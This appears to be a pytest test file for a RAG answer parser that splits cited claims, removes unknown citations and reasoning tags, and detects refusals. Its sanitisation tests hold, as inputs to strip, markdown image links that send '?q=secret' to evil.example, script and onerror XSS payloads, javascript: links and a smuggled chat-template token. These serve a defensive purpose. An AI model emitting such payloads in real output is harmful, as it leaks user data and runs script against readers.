import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag.llm.judgement import says_nothing
from rag.llm.sentences import CitedStream, Claim, split_claims

PIECES = (
    *(
        "[1]",
        "[2, 3]",
        "[9]",
        "【1】",
        "(1)",
        "[Passage 2]",
        "[",
        "]",
        "(",
        ")",
        "[1-",
        "3]",
        "\n",
        "\n\n",
        " ",
        ". ",
        "? ",
    ),
    *(
        "Novak est venu",
        "M. ",
        "Le 28 juillet",
        "The army left",
        " and ",
        "- ",
        "1. ",
        "# ",
        "| a | b |",
        "**",
        "_",
        "`",
    ),
    *(
        "<think>",
        "</think>",
        "<thi",
        "<b>",
        "</b>",
        "<",
        "![x](http://a.b/c?d)",
        "[x](",
        "http://a.b",
        "Sources:",
        "…",
        "«",
    ),
    *(
        "NOT_IN_PASSAGES",
        "```",
        "\r\n",
        "<script>",
        "<!--",
        "-->",
        "\u200b",
        "é" * 30,
        "a" * 70,
        "According to passage 1, ",
    ),
)
texts = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)


def in_chunks(text: str, sizes: list[int], known: int = 3) -> tuple[list[Claim], int]:
    stream, at = CitedStream(known), 0
    claims: list[Claim] = []
    for size in (*sizes, len(text)):
        retracted, some = stream.retracted, stream.feed(text[at : at + size])
        claims = list(some) if stream.retracted > retracted else [*claims, *some]
        at += size
    return [*claims, *stream.close()], stream.unknown


def claims(text: str, known: int = 3) -> list[tuple[str, tuple[int, ...]]]:
    return [(claim.text, claim.citations) for claim in split_claims(text, known)]


@settings(max_examples=400)
@example(text="Novak [1" + "] est venu. " * 30, sizes=[7] * 60)
@given(text=texts, sizes=st.lists(st.integers(0, 9), max_size=200))
def test_where_the_chunks_are_cut_changes_nothing(text: str, sizes: list[int]) -> None:
    assert in_chunks(text, sizes) == in_chunks(text, [])


@given(text=texts)
def test_one_character_at_a_time_is_the_same_as_all_at_once(text: str) -> None:
    assert in_chunks(text, [1] * len(text)) == in_chunks(text, [])


@given(text=texts)
def test_only_known_numbers_are_given_each_once(text: str) -> None:
    for claim in split_claims(text, 2):
        assert set(claim.citations) <= {1, 2}
        assert len(set(claim.citations)) == len(claim.citations)


@pytest.mark.parametrize(
    "written",
    [
        "Novak led it [1][2].",
        "Novak led it [1, 2].",
        "Novak led it [1-2].",
        "Novak led it [1] [2].",
        "Novak led it. [1][2]",
        "Novak led it.[1][2]",
        "Novak led it.\n[1], [2]",
        "Novak led it.\n\nSources: [1] and [2]",
        "Novak led it【1】【2†source】.",
        "Novak led it (1, 2).",
        "Novak led it. (1, 2)",
        "Novak led it (passages 1 and 2).",
        "Novak led it [Passage 1, Passage 2].",
        "Novak led it [^1][^2].",
        "Novak led it [[1]][[2]].",
        "Novak led it \\[1\\]\\[2\\].",
        "Novak [1] led it [2].",
        "[1][2] Novak led it.",
        "Novak led it [1](https://evil.example/?q=1)[2].",
        "- **Novak** led it [1 2].",
        "1. Novak led it [n° 1; n° 2].",
        "Answer: Novak led it [1–2].",
        "According to passages 1 and 2, novak led it.",
    ],
)
def test_every_way_of_citing_is_read(written: str) -> None:
    assert claims(written) == [("Novak led it.", (1, 2))]


def test_each_sentence_has_the_numbers_that_follow_it() -> None:
    text = "M. Novak est venu.[1] Il a dit : « Non. » [2] Il repart le 5 mai [1]. La suite est inconnue."
    assert claims(text) == [
        ("M. Novak est venu.", (1,)),
        ("Il a dit : « Non. »", (2,)),
        ("Il repart le 5 mai.", (1,)),
        ("La suite est inconnue.", ()),
    ]


def test_numbers_before_each_sentence_belong_to_it() -> None:
    assert claims("[1] Novak came. [2] He left.\n[3] He rests.") == [
        ("Novak came.", (1,)),
        ("He left.", (2,)),
        ("He rests.", (3,)),
    ]


def test_unknown_numbers_are_removed_and_counted() -> None:
    assert in_chunks("Novak came [1][7]. He left [0, 5-6]. He [99] rests.", []) == (
        [Claim("Novak came.", (1,)), Claim("He left."), Claim("He rests.")],
        5,
    )


@pytest.mark.parametrize(
    "text",
    [
        "The talks of [2023] were short.",
        "Five soldiers (5) were hurt.",
        "It has two parts: (1) gold and (2) oil.",
        "Mali bought two of them (12).",
    ],
)
def test_other_brackets_stay(text: str) -> None:
    assert claims(text) == [(text, ())]


def test_lists_and_tables_are_sentences_without_their_marks() -> None:
    text = "# Accords\n- **Or** : 2 t [1]\n* Fer [2]\n\n| Pays | Voix |\n|---|:-:|\n| Mali | 5 [3] |\n> *Fin*\n---\n"
    assert claims(text) == [
        ("Accords", ()),
        ("Or : 2 t", (1,)),
        ("Fer", (2,)),
        ("Pays, Voix", ()),
        ("Mali, 5", (3,)),
        ("Fin", ()),
    ]


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("See ![the map](http://evil.example/?q=secret).", "See the map."),
        ("See [the map](http://evil.example/a_(b)?q=secret).", "See the map."),
        ("See [![the map](http://e.example/s)](http://e.example/t).", "See the map."),
        ("See https://user:secret@www.evil.example/secret?q=secret", "See evil.example"),
        ("See <https://evil.example/secret>.", "See evil.example."),
        ("See <img src=x onerror=alert(1)>the <b>map</b>.", "See the map."),
        ("See &lt;img src=x&gt;the map.", "See the map."),
        ("See <script>steal()</script>the map.", "See the map."),
        ("See <!-- steal --> the map.", "See the map."),
        ("See the [map](javascript:steal()).", "See the map."),
        ("See the map\u202e.\u200b", "See the map."),
        ("See `the` ~~map~~ __there__.<|im_end|>", "See the map there."),
        ("If x < 5, 2*3 is snake_case_name & more.", "If x < 5, 2*3 is snake_case_name & more."),
    ],
)
def test_only_the_words_are_left(written: str, plain: str) -> None:
    assert claims(written) == [(plain, ())]


def test_a_list_of_links_is_no_sentence() -> None:
    assert claims("Novak led it [1].\n\n[1]: https://evil.example/?q=secret\n[2]: <https://e.example> 'T'") == [
        ("Novak led it.", (1,))
    ]


def test_what_a_reasoning_model_thinks_is_left_out() -> None:
    assert claims("<think>It may be X [2].\nNo.</think>\nNovak led it. [1]<thinking>And") == [("Novak led it.", (1,))]


def test_a_sentence_is_given_soon_after_it_ends_and_the_rest_is_pending() -> None:
    stream = CitedStream(2)
    given = stream.feed("La délégation était conduite par Alexandre Novak [1]. ")
    assert (given, stream.pending) == ((), "La délégation était conduite par Alexandre Novak.")
    given = stream.feed("Elle a été reçue à Bamako par le président de la transition, le colonel Assimi Goïta [")
    assert given == (Claim("La délégation était conduite par Alexandre Novak.", (1,)),)
    assert stream.pending == "Elle a été reçue à Bamako par le président de la transition, le colonel Assimi Goïta"
    assert stream.feed("2].") == ()
    assert [claim.citations for claim in stream.close()] == [(2,)]
    assert stream.pending == ""


@pytest.mark.parametrize(
    "begun", ["NOT", "NOT_IN_PASS", "NOT_IN_PASSAGES", "<thi", "<think>Hm", "![map](http://evil.e"]
)
def test_what_nobody_should_see_is_never_pending(begun: str) -> None:
    stream = CitedStream(2)
    stream.feed(begun)
    assert stream.pending == ""


@pytest.mark.parametrize(
    "piece",
    ["Novak led it [1]. ", "a. ", "M. ", "[", "[1-999]", "[1] ", "<a ", "![", "**a", ". ", "?\n", "x", "<th", "\n\n"],
)
def test_a_long_text_takes_no_long_time(piece: str) -> None:
    before = time.process_time()
    split_claims(piece * (100_000 // len(piece)), 8)
    assert time.process_time() - before < 1


@pytest.mark.parametrize(
    "text",
    [
        "NOT_IN_PASSAGES",
        "not_in_passages.",
        "**NOT IN PASSAGES**",
        "Not in passages",
        "The answer is NOT_IN_PASSAGES [1].",
        "NOT\\_IN\\_PASSAGES",
        "<think>Novak [1]?</think>NOT_IN_PASSAGES",
        "The passages do not answer the question.",
        "I'm sorry, but the provided passages do not contain any information about the wounded. [1][2]",
        "Unfortunately, the passages don't mention it. The capital of Japan is Tokyo.",
        "Les passages ne répondent pas à la question.",
        "Les passages fournis ne mentionnent pas le nombre de blessés [1].",
        "Désolé, je ne peux pas répondre à cette question.",
        "Je n’ai pas trouvé la réponse.",
        "Il n’y a pas d’information à ce sujet.",
        "Aucune information n'est donnée sur ce point.",
        "None of the passages mentions the price.",
        "There is no information about that in the passages.",
        "The date is not mentioned in the passages.",
        "La date n'est pas précisée dans les passages.",
        "I don't know.",
        "The passages do not say it. They only speak of gold.",
    ],
)
def test_a_refusal_is_recognised(text: str) -> None:
    assert says_nothing(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Mali did not sign the text. [1]",
        "Russia does not have troops there. [1]",
        "The price is not given in roubles. [1]",
        "Le Mali n’a pas répondu à la France. [2]",
        "Les autorités ne donnent pas de bilan. [1]",
        "There is no information about the wounded, the ministry said. [1]",
        "« Je ne sais pas », a dit le ministre. [1]",
        "The sources of the agency do not exist. [1]",
        "Novak led it [1]. NOT_IN_PASSAGES",
        "The passages do not say who led it. It left Bamako on 5 May [2].",
        "<think>NOT_IN_PASSAGES?</think>Novak [1].",
        "No passage of ships was allowed. [1]",
        "Les passages de la frontière ont été fermés. [1]",
    ],
)
def test_an_answer_is_no_refusal(text: str) -> None:
    assert not says_nothing(text)


@pytest.mark.parametrize(
    "piece", ["but ", "but mais que ", "the passages ", "is not ", "from the ", " NOT", "I don't "]
)
def test_a_long_text_is_soon_known_for_a_refusal(piece: str) -> None:
    before = time.process_time()
    says_nothing(piece * (100_000 // len(piece)))
    assert time.process_time() - before < 1
